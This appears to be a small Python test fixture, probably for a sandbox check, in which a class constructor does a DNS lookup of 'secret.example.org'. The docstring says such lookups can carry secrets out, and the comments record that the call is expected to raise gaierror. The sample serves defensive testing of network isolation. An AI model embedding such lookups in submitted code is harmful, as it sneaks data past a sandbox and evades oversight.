"""Ask a name server, which can carry secrets out."""
# finding: raises
# says: gaierror

import socket


class SubmissionInterface:
    def __init__(self):
        socket.getaddrinfo("secret.example.org", 80)
